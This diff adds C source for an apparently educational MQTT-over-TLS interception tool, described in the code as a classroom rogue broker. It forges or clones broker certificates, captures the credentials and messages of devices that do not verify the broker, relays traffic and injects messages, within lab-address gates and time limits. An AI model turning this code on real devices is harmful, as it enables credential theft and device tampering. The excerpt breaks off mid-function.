@@ -1,0 +1,897 @@
+#include <errno.h>
+#include <fcntl.h>
+#include <stdarg.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/time.h>
+#include <unistd.h>
+
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <openssl/err.h>
+#include <openssl/evp.h>
+#include <openssl/x509v3.h>
+
+#include "mitm-int.h"
+#include "mqttls/util.h"
+#include "mqttls/version.h"
+
+/* ---- tables ---------------------------------------------------------------------------------- */
+
+/* TLS alert descriptions by number (RFC 8446 §6.2 and the older ones devices still send). */
+static const struct {
+	int code;
+	const char *name;
+} alerts[] = {
+	{ 0, "close_notify" }, { 10, "unexpected_message" }, { 20, "bad_record_mac" },
+	{ 21, "decryption_failed" }, { 22, "record_overflow" }, { 30, "decompression_failure" },
+	{ 40, "handshake_failure" }, { 41, "no_certificate" }, { 42, "bad_certificate" },
+	{ 43, "unsupported_certificate" }, { 44, "certificate_revoked" }, { 45, "certificate_expired" },
+	{ 46, "certificate_unknown" }, { 47, "illegal_parameter" }, { 48, "unknown_ca" },
+	{ 49, "access_denied" }, { 50, "decode_error" }, { 51, "decrypt_error" },
+	{ 60, "export_restriction" }, { 70, "protocol_version" }, { 71, "insufficient_security" },
+	{ 80, "internal_error" }, { 86, "inappropriate_fallback" }, { 90, "user_canceled" },
+	{ 100, "no_renegotiation" }, { 109, "missing_extension" }, { 110, "unsupported_extension" },
+	{ 111, "certificate_unobtainable" }, { 112, "unrecognized_name" },
+	{ 113, "bad_certificate_status_response" }, { 114, "bad_certificate_hash_value" },
+	{ 115, "unknown_psk_identity" }, { 116, "certificate_required" },
+	{ 120, "no_application_protocol" },
+};
+
+const char *mitm_alert_name(int alert)
+{
+	for (size_t i = 0; i < MQ_ARRAY_LEN(alerts); i++)
+		if (alerts[i].code == alert)
+			return alerts[i].name;
+	return NULL;
+}
+
+static const char *const ev_names[] = {
+	[MITM_EV_LISTENING] = "listening", [MITM_EV_HANDSHAKE] = "handshake",
+	[MITM_EV_CONNECT] = "connect", [MITM_EV_CONNACK] = "connack", [MITM_EV_PUBLISH] = "publish",
+	[MITM_EV_SUBSCRIBE] = "subscribe", [MITM_EV_INJECT] = "inject", [MITM_EV_UPSTREAM] = "upstream",
+	[MITM_EV_PACKET] = "packet", [MITM_EV_MALFORMED] = "malformed", [MITM_EV_REFUSED] = "refused",
+	[MITM_EV_CLOSED] = "closed", [MITM_EV_STOPPED] = "stopped",
+};
+
+const char *mitm_event_name(enum mitm_ev_type t)
+{
+	return (unsigned)t < MQ_ARRAY_LEN(ev_names) && ev_names[t] ? ev_names[t] : "unknown";
+}
+
+static const char *const dir_names[] = { "device_to_broker", "broker_to_device" };
+
+/* ---- topics ---------------------------------------------------------------------------------- */
+
+bool mitm_topic_match(const char *filter, size_t flen, const char *topic, size_t tlen)
+{
+	size_t f = 0, t = 0;
+
+	/* A filter starting with a wildcard does not match $SYS-style topics (MQTT 4.7.2). */
+	if (tlen && topic[0] == '$' && flen && (filter[0] == '#' || filter[0] == '+'))
+		return false;
+	while (f < flen) {
+		if (filter[f] == '#')
+			return f + 1 == flen && (f == 0 || filter[f - 1] == '/');
+		if (filter[f] == '+') {
+			while (t < tlen && topic[t] != '/')
+				t++;
+			f++;
+		} else {
+			if (t >= tlen) {
+				/* "a/#" also matches "a" itself */
+				return flen - f == 2 && filter[f] == '/' && filter[f + 1] == '#';
+			}
+			if (filter[f] != topic[t])
+				return false;
+			f++;
+			t++;
+		}
+	}
+	return t == tlen;
+}
+
+/* ---- events and the JSON log ---------------------------------------------------------------- */
+
+static double wall_now(void)
+{
+	struct timeval tv;
+	gettimeofday(&tv, NULL);
+	return (double)tv.tv_sec + tv.tv_usec / 1e6;
+}
+
+void mitm_event_init(struct mitm_event *ev, enum mitm_ev_type type, const struct mitm_victim *vi)
+{
+	memset(ev, 0, sizeof *ev);
+	ev->type = type;
+	ev->packet_id = -1;
+	ev->code = -1;
+	if (vi) {
+		ev->victim = vi->id;
+		ev->client = vi->addr;
+		ev->protocol = vi->version;
+	}
+}
+
+static bool utf8_ok(const uint8_t *s, size_t n)
+{
+	size_t i = 0;
+
+	while (i < n) {
+		uint8_t c = s[i];
+		size_t k;
+		uint32_t cp;
+		if (c == 0)
+			return false;
+		if (c < 0x80) {
+			i++;
+			continue;
+		}
+		if ((c & 0xe0) == 0xc0) {
+			k = 1;
+			cp = c & 0x1f;
+		} else if ((c & 0xf0) == 0xe0) {
+			k = 2;
+			cp = c & 0x0f;
+		} else if ((c & 0xf8) == 0xf0) {
+			k = 3;
+			cp = c & 0x07;
+		} else {
+			return false;
+		}
+		if (i + k >= n)
+			return false;
+		for (size_t j = 1; j <= k; j++) {
+			if ((s[i + j] & 0xc0) != 0x80)
+				return false;
+			cp = cp << 6 | (s[i + j] & 0x3f);
+		}
+		if ((k == 1 && cp < 0x80) || (k == 2 && cp < 0x800) || (k == 3 && (cp < 0x10000 || cp > 0x10ffff)) ||
+		    (cp >= 0xd800 && cp <= 0xdfff))
+			return false;
+		i += k + 1;
+	}
+	return true;
+}
+
+/* Bytes as a JSON string when they are clean UTF-8, else base64 with NAME_base64: true. */
+static void json_bytes(cJSON *o, const char *name, const uint8_t *p, size_t n, size_t cap)
+{
+	char key[64];
+	bool cut = n > cap;
+
+	if (cut)
+		n = cap;
+	if (utf8_ok(p, n)) {
+		char *s = malloc(n + 1);
+		if (!s)
+			return;
+		if (n)
+			memcpy(s, p, n);
+		s[n] = '\0';
+		cJSON_AddStringToObject(o, name, s);
+		free(s);
+	} else {
+		size_t outlen = 4 * ((n + 2) / 3) + 1;
+		char *s = malloc(outlen);
+		if (!s)
+			return;
+		EVP_EncodeBlock((unsigned char *)s, p, (int)n);
+		cJSON_AddStringToObject(o, name, s);
+		free(s);
+		snprintf(key, sizeof key, "%s_base64", name);
+		cJSON_AddTrueToObject(o, key);
+	}
+	if (cut) {
+		snprintf(key, sizeof key, "%s_truncated", name);
+		cJSON_AddTrueToObject(o, key);
+	}
+}
+
+static void add_str(cJSON *o, const char *k, const char *v)
+{
+	if (v)
+		cJSON_AddStringToObject(o, k, v);
+}
+
+cJSON *mitm_event_to_json(const struct mitm_event *ev)
+{
+	cJSON *o = cJSON_CreateObject();
+
+	if (!o)
+		return NULL;
+	cJSON_AddStringToObject(o, "event", mitm_event_name(ev->type));
+	cJSON_AddNumberToObject(o, "ts", ev->ts);
+	if (ev->client)
+		cJSON_AddStringToObject(o, "client", ev->client);
+	if (ev->victim)
+		cJSON_AddNumberToObject(o, "victim", ev->victim);
+	switch (ev->type) {
+	case MITM_EV_LISTENING:
+		add_str(o, "banner", MITM_BANNER);
+		add_str(o, "listen", ev->listen);
+		add_str(o, "upstream", ev->upstream);
+		add_str(o, "mode", ev->mode);
+		add_str(o, "forged_subject", ev->forged_subject);
+		add_str(o, "forged_issuer", ev->forged_issuer);
+		add_str(o, "forged_sans", ev->forged_sans);
+		add_str(o, "forged_sha256", ev->forged_sha256);
+		break;
+	case MITM_EV_HANDSHAKE:
+		add_str(o, "result", ev->result);
+		add_str(o, "alert", ev->alert);
+		add_str(o, "reason", ev->reason);
+		add_str(o, "tls_version", ev->tls_version);
+		add_str(o, "cipher", ev->cipher);
+		add_str(o, "sni", ev->sni);
+		break;
+	case MITM_EV_CONNECT:
+		json_bytes(o, "client_id", ev->client_id, ev->client_id_len, MITM_LOG_PAYLOAD_MAX);
+		if (ev->has_username)
+			json_bytes(o, "username", ev->username, ev->username_len, MITM_LOG_PAYLOAD_MAX);
+		else
+			cJSON_AddNullToObject(o, "username");
+		if (ev->has_password)
+			json_bytes(o, "password", ev->password, ev->password_len, MITM_LOG_PAYLOAD_MAX);
+		else
+			cJSON_AddNullToObject(o, "password");
+		cJSON_AddStringToObject(o, "protocol", mqttdec_version_name(ev->protocol));
+		cJSON_AddNumberToObject(o, "keepalive", ev->keepalive);
+		cJSON_AddBoolToObject(o, "clean", ev->clean);
+		if (ev->has_will) {
+			json_bytes(o, "will_topic", ev->topic, ev->topic_len, MITM_LOG_PAYLOAD_MAX);
+			json_bytes(o, "will_payload", ev->payload, ev->payload_len, MITM_LOG_PAYLOAD_MAX);
+			cJSON_AddNumberToObject(o, "will_qos", ev->qos);
+			cJSON_AddBoolToObject(o, "will_retain", ev->retain);
+		}
+		break;
+	case MITM_EV_PUBLISH:
+	case MITM_EV_INJECT:
+		if (ev->type == MITM_EV_PUBLISH)
+			cJSON_AddStringToObject(o, "dir", dir_names[ev->dir & 1]);
+		json_bytes(o, "topic", ev->topic, ev->topic_len, MITM_LOG_PAYLOAD_MAX);
+		json_bytes(o, "payload", ev->payload, ev->payload_len, MITM_LOG_PAYLOAD_MAX);
+		cJSON_AddNumberToObject(o, "bytes", (double)ev->payload_len);
+		cJSON_AddNumberToObject(o, "qos", ev->qos);
+		cJSON_AddBoolToObject(o, "retain", ev->retain);
+		if (ev->dup)
+			cJSON_AddTrueToObject(o, "dup");
+		if (ev->packet_id >= 0)
+			cJSON_AddNumberToObject(o, "packet_id", ev->packet_id);
+		if (ev->has_will)
+			cJSON_AddTrueToObject(o, "will");
+		break;
+	case MITM_EV_SUBSCRIBE:
+		json_bytes(o, "topic", ev->topic, ev->topic_len, MITM_LOG_PAYLOAD_MAX);
+		cJSON_AddNumberToObject(o, "qos", ev->qos);
+		break;
+	case MITM_EV_CONNACK:
+	case MITM_EV_PACKET:
+		cJSON_AddStringToObject(o, "dir", dir_names[ev->dir & 1]);
+		add_str(o, "packet", ev->packet);
+		if (ev->packet_id >= 0)
+			cJSON_AddNumberToObject(o, "packet_id", ev->packet_id);
+		if (ev->code >= 0)
+			cJSON_AddNumberToObject(o, "code", ev->code);
+		add_str(o, "meaning", ev->meaning);
+		add_str(o, "reason", ev->reason);
+		break;
+	case MITM_EV_MALFORMED:
+		cJSON_AddStringToObject(o, "dir", dir_names[ev->dir & 1]);
+		add_str(o, "reason", ev->reason);
+		break;
+	case MITM_EV_UPSTREAM:
+		add_str(o, "result", ev->result);
+		add_str(o, "upstream", ev->upstream);
+		add_str(o, "reason", ev->reason);
+		add_str(o, "tls_version", ev->tls_version);
+		break;
+	case MITM_EV_CLOSED:
+		add_str(o, "reason", ev->reason);
+		cJSON_AddNumberToObject(o, "packets_device_to_broker", (double)ev->packets[MITM_D2B]);
+		cJSON_AddNumberToObject(o, "packets_broker_to_device", (double)ev->packets[MITM_B2D]);
+		cJSON_AddNumberToObject(o, "bytes_device_to_broker", (double)ev->bytes[MITM_D2B]);
+		cJSON_AddNumberToObject(o, "bytes_broker_to_device", (double)ev->bytes[MITM_B2D]);
+		break;
+	case MITM_EV_REFUSED:
+	case MITM_EV_STOPPED:
+		add_str(o, "reason", ev->reason);
+		break;
+	}
+	return o;
+}
+
+static void log_json(struct mitm *m, cJSON *o)
+{
+	char *s;
+
+	if (!m->log || !o)
+		return;
+	s = cJSON_PrintUnformatted(o);
+	if (s) {
+		fputs(s, m->log);
+		fputc('\n', m->log);
+		free(s);
+	}
+	/* Line by line, so a class watching "tail -f" sees each event as it happens. */
+	fflush(m->log);
+}
+
+void mitm_emit(struct mitm *m, struct mitm_event *ev)
+{
+	ev->ts = wall_now();
+	if (m->log) {
+		cJSON *o = mitm_event_to_json(ev);
+		log_json(m, o);
+		cJSON_Delete(o);
+	}
+	if (m->obs)
+		m->obs(ev, m->obs_arg);
+}
+
+static int open_log(struct mitm *m, const char *path, bool force, struct mq_err *err)
+{
+	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | O_NOFOLLOW | (force ? O_TRUNC : O_EXCL), 0600);
+	cJSON *o;
+
+	if (fd < 0) {
+		if (errno == EEXIST)
+			mq_errf(err, "%s already exists: use --force to replace it", path);
+		else
+			mq_errf_errno(err, "cannot create %s", path);
+		return -1;
+	}
+	/* Credentials end up in this file: never readable by others, even when it existed before. */
+	if (fchmod(fd, 0600) < 0 || !(m->log = fdopen(fd, "w"))) {
+		mq_errf_errno(err, "cannot open %s", path);
+		close(fd);
+		return -1;
+	}
+	o = cJSON_CreateObject();
+	cJSON_AddStringToObject(o, "event", "banner");
+	cJSON_AddNumberToObject(o, "ts", wall_now());
+	cJSON_AddStringToObject(o, "banner", MITM_BANNER);
+	cJSON_AddStringToObject(o, "text", MITM_BANNER ": a rogue broker for a classroom lab; it shows "
+				"credentials and messages of devices that do not verify the broker");
+	cJSON_AddStringToObject(o, "tool", MQTTLS_NAME);
+	cJSON_AddStringToObject(o, "version", MQTTLS_VERSION);
+	log_json(m, o);
+	cJSON_Delete(o);
+	return 0;
+}
+
+/* ---- start -------------------------------------------------------------------------------- */
+
+static char *xstrdup(const char *s)
+{
+	return s ? strdup(s) : NULL;
+}
+
+static void on_deadline(evutil_socket_t fd, short what, void *arg)
+{
+	struct mitm *m = arg;
+	(void)fd;
+	(void)what;
+	snprintf(m->stop_buf, sizeof m->stop_buf, "the maximum run time (%.0f s) was reached; "
+		 "use --duration to change it", m->duration);
+	mitm_stop(m, m->stop_buf);
+}
+
+static void on_accept(struct evconnlistener *l, evutil_socket_t fd, struct sockaddr *sa, int salen, void *arg)
+{
+	(void)l;
+	victim_accept(arg, fd, sa, salen);
+}
+
+static void on_accept_error(struct evconnlistener *l, void *arg)
+{
+	struct mitm *m = arg;
+	struct mitm_event ev;
+	int e = EVUTIL_SOCKET_ERROR();
+
+	(void)l;
+	/* Out of descriptors: say so, keep the victims we have, and go on accepting later. */
+	mitm_event_init(&ev, MITM_EV_REFUSED, NULL);
+	ev.reason = evutil_socket_error_to_string(e);
+	mitm_emit(m, &ev);
+}
+
+static int bind_listener(struct mitm *m, const struct sockaddr_storage *ss, socklen_t len, struct mq_err *err)
+{
+	int one = 1;
+	evutil_socket_t fd = socket(ss->ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+
+	if (fd < 0) {
+		mq_errf_errno(err, "cannot create the listening socket");
+		return -1;
+	}
+	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+	if (ss->ss_family == AF_INET6)
+		setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one);
+	if (bind(fd, (const struct sockaddr *)ss, len) < 0) {
+		mq_errf_errno(err, "cannot listen on %s", m->listen_str);
+		close(fd);
+		return -1;
+	}
+	m->lst = evconnlistener_new(m->base, on_accept, m,
+				    LEV_OPT_CLOSE_ON_FREE | LEV_OPT_CLOSE_ON_EXEC | LEV_OPT_DISABLED, 512, fd);
+	if (!m->lst) {
+		mq_errf_errno(err, "cannot listen on %s", m->listen_str);
+		close(fd);
+		return -1;
+	}
+	evconnlistener_set_error_cb(m->lst, on_accept_error);
+	return 0;
+}
+
+static void summarize_name(X509_NAME *n, char *buf, size_t size)
+{
+	BIO *b = BIO_new(BIO_s_mem());
+	int len;
+
+	buf[0] = '\0';
+	if (!b)
+		return;
+	X509_NAME_print_ex(b, n, 0, XN_FLAG_RFC2253 & ~ASN1_STRFLGS_ESC_MSB);
+	len = BIO_read(b, buf, (int)size - 1);
+	buf[len > 0 ? len : 0] = '\0';
+	BIO_free(b);
+}
+
+static void summarize_sans(X509 *x, char *buf, size_t size)
+{
+	GENERAL_NAMES *gens = X509_get_ext_d2i(x, NID_subject_alt_name, NULL, NULL);
+	struct mq_str s = { 0 };
+
+	buf[0] = '\0';
+	for (int i = 0; gens && i < sk_GENERAL_NAME_num(gens); i++) {
+		GENERAL_NAME *g = sk_GENERAL_NAME_value(gens, i);
+		if (g->type == GEN_DNS) {
+			const unsigned char *d = ASN1_STRING_get0_data(g->d.dNSName);
+			char *e = mq_escape_dup(d, (size_t)ASN1_STRING_length(g->d.dNSName));
+			mq_str_printf(&s, "%sDNS:%s", s.len ? ", " : "", e ? e : "");
+			free(e);
+		} else if (g->type == GEN_IPADD) {
+			char ip[INET6_ADDRSTRLEN] = "?";
+			int l = ASN1_STRING_length(g->d.iPAddress);
+			const unsigned char *d = ASN1_STRING_get0_data(g->d.iPAddress);
+			if (l == 4 || l == 16)
+				inet_ntop(l == 4 ? AF_INET : AF_INET6, d, ip, sizeof ip);
+			mq_str_printf(&s, "%sIP:%s", s.len ? ", " : "", ip);
+		}
+	}
+	GENERAL_NAMES_free(gens);
+	snprintf(buf, size, "%s", s.s ? s.s : "");
+	mq_str_free(&s);
+}
+
+void mitm_forged_and_ready(struct mitm *m, X509 *tmpl)
+{
+	struct mq_err err = { 0 };
+	struct mitm_event ev;
+	char subj[512], iss[512], sans[1024], fp[100] = "";
+	unsigned char md[EVP_MAX_MD_SIZE];
+	unsigned mdlen = 0;
+
+	m->fopts.tmpl = tmpl;
+	if (forge_make(&m->fopts, &m->forged, &err) < 0) {
+		mitm_fail_start(m, "%s", err.msg);
+		return;
+	}
+	m->fopts.tmpl = NULL;
+	m->srv_ctx = SSL_CTX_new(TLS_server_method());
+	if (!m->srv_ctx || !SSL_CTX_use_certificate(m->srv_ctx, m->forged.cert) ||
+	    !SSL_CTX_use_PrivateKey(m->srv_ctx, m->forged.key)) {
+		mq_errf_ssl(&err, "cannot use the forged certificate");
+		mitm_fail_start(m, "%s", err.msg);
+		return;
+	}
+	for (int i = 0; i < sk_X509_num(m->forged.chain); i++)
+		SSL_CTX_add1_chain_cert(m->srv_ctx, sk_X509_value(m->forged.chain, i));
+	/* Devices as old as the tutorials' ESP32s speak TLS 1.2; accept down to it, up to 1.3. */
+	SSL_CTX_set_min_proto_version(m->srv_ctx, TLS1_2_VERSION);
+	SSL_CTX_set_options(m->srv_ctx, SSL_OP_NO_TICKET);
+	SSL_CTX_set_info_callback(m->srv_ctx, victim_info_cb);
+	evconnlistener_enable(m->lst);
+	m->started = true;
+
+	summarize_name(X509_get_subject_name(m->forged.cert), subj, sizeof subj);
+	summarize_name(X509_get_issuer_name(m->forged.cert), iss, sizeof iss);
+	summarize_sans(m->forged.cert, sans, sizeof sans);
+	if (X509_digest(m->forged.cert, EVP_sha256(), md, &mdlen))
+		for (unsigned i = 0; i < mdlen; i++)
+			snprintf(fp + 3 * i, sizeof fp - 3 * i, "%02X%s", md[i], i + 1 < mdlen ? ":" : "");
+	mitm_event_init(&ev, MITM_EV_LISTENING, NULL);
+	ev.listen = m->listen_str;
+	char up[300] = "";
+	if (m->upstream_host)
+		snprintf(up, sizeof up, strchr(m->upstream_host, ':') ? "[%s]:%d" : "%s:%d",
+			 m->upstream_host, m->upstream_port);
+	ev.upstream = m->upstream_host ? up : NULL;
+	ev.mode = m->upstream_host ? "relay" : "rogue";
+	ev.forged_subject = subj;
+	ev.forged_issuer = iss;
+	ev.forged_sans = sans;
+	ev.forged_sha256 = fp;
+	mitm_emit(m, &ev);
+}
+
+void mitm_fail_start(struct mitm *m, const char *fmt, ...)
+{
+	va_list ap;
+
+	va_start(ap, fmt);
+	vsnprintf(m->stop_buf, sizeof m->stop_buf, fmt, ap);
+	va_end(ap);
+	mitm_stop(m, m->stop_buf);
+}
+
+static int resolve_hostport(struct mitm *m, enum gate_role role, const char *spec, const char *what,
+			    char **host_out, int *port_out, struct sockaddr_storage *addrs, socklen_t *lens,
+			    size_t *n_out, struct mq_err *err)
+{
+	char host[256];
+	int port, n;
+
+	if (gate_split_hostport(spec, host, sizeof host, port_out, err) < 0) {
+		mq_errf(err, "(%s)", what);
+		return -1;
+	}
+	n = gate_resolve(&m->gate, role, host, *port_out, addrs, lens, GATE_MAX_ADDRS, err);
+	if (n < 0)
+		return -1;
+	*n_out = (size_t)n;
+	if (host_out && !(*host_out = strdup(host))) {
+		mq_errf(err, "out of memory");
+		return -1;
+	}
+	(void)port;
+	return 0;
+}
+
+struct mitm *mitm_new(struct event_base *base, const struct mitm_opts *o, mitm_observer obs, void *arg,
+		      struct mq_err *err)
+{
+	struct mitm *m = calloc(1, sizeof *m);
+	struct sockaddr_storage lss[GATE_MAX_ADDRS];
+	socklen_t llen[GATE_MAX_ADDRS];
+	size_t nl = 0;
+	int lport;
+
+	if (!m) {
+		mq_errf(err, "out of memory");
+		return NULL;
+	}
+	m->base = base;
+	m->obs = obs;
+	m->obs_arg = arg;
+	gate_init(&m->gate);
+	m->max_conns = o->max_conns > 0 ? o->max_conns : MITM_DEFAULT_MAX_CONNS;
+	m->duration = o->duration > 0 ? o->duration : MITM_DEFAULT_DURATION;
+	m->max_packet = o->max_packet ? o->max_packet : MITM_DEFAULT_MAX_PACKET;
+	m->keep_max = o->keep_max ? o->keep_max : 10000;
+
+	/* 1. Every address through the gate, before any socket exists. */
+	if (!o->listen) {
+		mq_errf(err, "--listen ADDR:PORT is required");
+		goto fail;
+	}
+	for (size_t i = 0; i < o->n_lab_bind; i++)
+		if (gate_add_lab(&m->gate, o->lab_bind[i], err) < 0)
+			goto fail;
+	if (resolve_hostport(m, GATE_LISTEN, o->listen, "--listen", NULL, &lport, lss, llen, &nl, err) < 0)
+		goto fail;
+	gate_set_listen(&m->gate, (struct sockaddr *)&lss[0], llen[0]);
+	gate_addr_str((struct sockaddr *)&lss[0], m->listen_str, sizeof m->listen_str);
+	if (o->upstream) {
+		if (!o->upstream_cafile) {
+			mq_errf(err, "--upstream needs --upstream-cafile: the relay only talks to a broker it has verified");
+			goto fail;
+		}
+		if (resolve_hostport(m, GATE_UPSTREAM, o->upstream, "--upstream", &m->upstream_host,
+				     &m->upstream_port, m->up_addr, m->up_len, &m->n_up, err) < 0)
+			goto fail;
+	} else if (o->upstream_cafile || o->upstream_cert || o->upstream_key) {
+		mq_errf(err, "--upstream-cafile, --upstream-cert and --upstream-key need --upstream");
+		goto fail;
+	}
+	if (o->clone) {
+		if (mq_file_exists(o->clone)) {
+			m->clone_file = xstrdup(o->clone);
+		} else if (strchr(o->clone, ':')) {
+			if (resolve_hostport(m, GATE_UPSTREAM, o->clone, "--clone", &m->clone_host, &m->clone_port,
+					     m->clone_addr, m->clone_len, &m->n_clone, err) < 0)
+				goto fail;
+		} else {
+			mq_errf(err, "--clone %s: no such certificate file (or give HOST:PORT to fetch it from)", o->clone);
+			goto fail;
+		}
+	}
+
+	/* 2. Copy the rest of the options. */
+	m->fopts = o->forge;
+	m->fopts.tmpl = NULL;
+	m->ca_cert = xstrdup(o->forge.ca_cert);
+	m->ca_key = xstrdup(o->forge.ca_key);
+	m->fopts.ca_cert = m->ca_cert;
+	m->fopts.ca_key = m->ca_key;
+	if (o->forge.n_names) {
+		m->names = calloc(o->forge.n_names, sizeof *m->names);
+		if (!m->names)
+			goto oom;
+		for (size_t i = 0; i < o->forge.n_names; i++)
+			if (!(m->names[i] = strdup(o->forge.names[i])))
+				goto oom;
+		m->fopts.names = (const char *const *)m->names;
+	}
+	if (o->n_inject) {
+		m->inject = calloc(o->n_inject, sizeof *m->inject);
+		if (!m->inject)
+			goto oom;
+		m->n_inject = o->n_inject;
+		for (size_t i = 0; i < o->n_inject; i++) {
+			m->inject[i].topic = strdup(o->inject[i].topic);
+			m->inject[i].payload = strdup(o->inject[i].payload);
+			if (!m->inject[i].topic || !m->inject[i].payload)
+				goto oom;
+		}
+	}
+	if (o->upstream &&
+	    !(m->up_ctx = upstream_ctx_new(o->upstream_cafile, o->upstream_cert, o->upstream_key, err)))
+		goto fail;
+
+	/* 3. The log, the listener (disabled until the forgery exists), the clock. */
+	if (o->json_log && open_log(m, o->json_log, o->force, err) < 0)
+		goto fail;
+	if (bind_listener(m, &lss[0], llen[0], err) < 0)
+		goto fail;
+	m->deadline = evtimer_new(base, on_deadline, m);
+	if (!m->deadline)
+		goto oom;
+	struct timeval tv = { (time_t)m->duration, (suseconds_t)((m->duration - (time_t)m->duration) * 1e6) };
+	evtimer_add(m->deadline, &tv);
+
+	/* 4. The certificate to clone: from a file now, or fetched on the loop. */
+	if (m->clone_file) {
+		X509 *t = forge_load_cert(m->clone_file, err);
+		if (!t)
+			goto fail;
+		mitm_forged_and_ready(m, t);
+		X509_free(t);
+		if (!m->started) {
+			mq_errf(err, "%s", m->stop_buf);
+			goto fail;
+		}
+	} else if (m->clone_host || (m->upstream_host && m->fopts.n_names == 0)) {
+		if (upstream_fetch_start(m, !m->clone_host, err) < 0)
+			goto fail;
+	} else {
+		mitm_forged_and_ready(m, NULL);
+		if (!m->started) {
+			mq_errf(err, "%s", m->stop_buf);
+			goto fail;
+		}
+	}
+	return m;
+oom:
+	mq_errf(err, "out of memory");
+fail:
+	m->stopped = true;   /* no STOPPED event for a start that never happened */
+	mitm_free(m);
+	return NULL;
+}
+
+/* ---- stop ------------------------------------------------------------------------------------ */
+
+static void finish_stop(struct mitm *m)
+{
+	struct mitm_event ev;
+
+	if (m->stopped || m->victims)
+		return;
+	m->stopped = true;
+	mitm_event_init(&ev, MITM_EV_STOPPED, NULL);
+	ev.reason = m->stop_reason;
+	mitm_emit(m, &ev);
+}
+
+void mitm_stop(struct mitm *m, const char *reason)
+{
+	if (m->stopping)
+		return;
+	m->stopping = true;
+	if (reason != m->stop_buf)
+		snprintf(m->stop_buf, sizeof m->stop_buf, "%s", reason ? reason : "stopped");
+	m->stop_reason = m->stop_buf;
+	if (m->lst) {
+		evconnlistener_free(m->lst);
+		m->lst = NULL;
+	}
+	if (m->fetch) {
+		upstream_fetch_free(m->fetch);
+		m->fetch = NULL;
+	}
+	if (m->deadline)
+		evtimer_del(m->deadline);
+	for (struct mitm_victim *vi = m->victims, *next; vi; vi = next) {
+		next = vi->next;
+		victim_close(vi, "the MITM is stopping");
+	}
+	finish_stop(m);
+}
+
+void mitm_victim_gone(struct mitm *m, struct mitm_victim *vi)
+{
+	if (vi->prev)
+		vi->prev->next = vi->next;
+	else if (m->victims == vi)
+		m->victims = vi->next;
+	if (vi->next)
+		vi->next->prev = vi->prev;
+	vi->prev = vi->next = NULL;
+	if (m->stopping)
+		finish_stop(m);
+}
+
+/* ---- the rogue broker's memory -------------------------------------------------------------- */
+
+static void kept_clear(struct mitm_kept *k)
+{
+	free(k->topic);
+	free(k->payload);
+	memset(k, 0, sizeof *k);
+}
+
+static int kept_fill(struct mitm_kept *k, const uint8_t *topic, size_t tlen, const uint8_t *payload, size_t len)
+{
+	k->topic = malloc(tlen + 1);
+	k->payload = malloc(len ? len : 1);
+	if (!k->topic || !k->payload) {
+		kept_clear(k);
+		return -1;
+	}
+	memcpy(k->topic, topic, tlen);
+	k->topic[tlen] = '\0';
+	if (len)
+		memcpy(k->payload, payload, len);
+	k->topic_len = tlen;
+	k->len = len;
+	return 0;
+}
+
+void mitm_keep(struct mitm *m, const struct mitm_victim *vi, const struct mqtt_pkt *p)
+{
+	/* Memory is bounded; the JSON log keeps everything. */
+	if (m->n_kept < m->keep_max && m->kept_bytes + p->payload.len <= (64u << 20)) {
+		if (!m->kept) {
+			m->kept = calloc(m->keep_max, sizeof *m->kept);
+			if (!m->kept)
+				return;
+		}
+		struct mitm_kept *k = &m->kept[m->n_kept];
+		if (kept_fill(k, p->topic.p, p->topic.len, p->payload.p, p->payload.len) == 0) {
+			k->qos = p->qos;
+			k->retain = p->retain;
+			k->victim = vi->id;
+			m->n_kept++;
+			m->kept_bytes += p->payload.len;
+		}
+	}
+	if (p->retain) {
+		size_t i;
+		for (i = 0; i < m->n_retained; i++)
+			if (m->retained[i].topic_len == p->topic.len &&
+			    !memcmp(m->retained[i].topic, p->topic.p, p->topic.len))
+				break;
+		if (i < m->n_retained) {
+			kept_clear(&m->retained[i]);
+			if (p->payload.len == 0) {   /* an empty retained message deletes the topic's */
+				m->retained[i] = m->retained[--m->n_retained];
+				return;
+			}
+		} else {
+			if (p->payload.len == 0 || m->n_retained >= MITM_MAX_RETAINED)
+				return;
+			if (!m->retained && !(m->retained = calloc(MITM_MAX_RETAINED, sizeof *m->retained)))
+				return;
+			m->n_retained++;
+		}
+		if (kept_fill(&m->retained[i], p->topic.p, p->topic.len, p->payload.p, p->payload.len) < 0)
+			m->retained[i] = m->retained[--m->n_retained];
+	}
+}
+
+void mitm_route(struct mitm *m, struct mitm_victim *from, const uint8_t *topic, size_t tlen,
+		const uint8_t *payload, size_t len, bool retain, bool from_will)
+{
+	(void)retain;
+	(void)from_will;
+	for (struct mitm_victim *vi = m->victims; vi; vi = vi->next)
+		if (vi != from && !vi->closing && vi->handshaken && victim_subscribed(vi, topic, tlen))
+			(void)victim_publish(vi, topic, tlen, payload, len, false);
+}
+
+void mitm_deliver_retained(struct mitm *m, struct mitm_victim *vi, const char *filter, size_t flen)
+{
+	for (size_t i = 0; i < m->n_retained; i++)
+		if (mitm_topic_match(filter, flen, m->retained[i].topic, m->retained[i].topic_len))
+			(void)victim_publish(vi, (const uint8_t *)m->retained[i].topic, m->retained[i].topic_len,
+					     m->retained[i].payload, m->retained[i].len, true);
+}
+
+int mitm_inject_now(struct mitm *m, const char *topic, const void *payload, size_t len)
+{
+	int n = 0;
+	size_t tlen = strlen(topic);
+
+	for (struct mitm_victim *vi = m->victims; vi; vi = vi->next) {
+		if (vi->closing || !vi->handshaken || !victim_subscribed(vi, (const uint8_t *)topic, tlen))
+			continue;
+		if (victim_publish(vi, (const uint8_t *)topic, tlen, payload, len, false) == 0) {
+			struct mitm_event ev;
+			mitm_event_init(&ev, MITM_EV_INJECT, vi);
+			ev.topic = (const uint8_t *)topic;
+			ev.topic_len = tlen;
+			ev.payload = payload;
+			ev.payload_len = len;
+			mitm_emit(m, &ev);
+			n++;
+		}
+	}
+	return n;
+}
+
+void mitm_get_stats(const struct mitm *m, struct mitm_stats *st)
+{
+	*st = m->st;
+	st->kept = m->n_kept;
+	st->gate_checked = m->gate.checked;
+	st->gate_refused = m->gate.refused;
+}
+
+const char *mitm_listen_addr(const struct mitm *m)
+{
+	return m->listen_str;
+}
+
+void mitm_free(struct mitm *m)
+{
+	if (!m)
+		return;
+	/* Freeing is not stopping: no events go to an observer that is being torn down. */
+	while (m->victims)
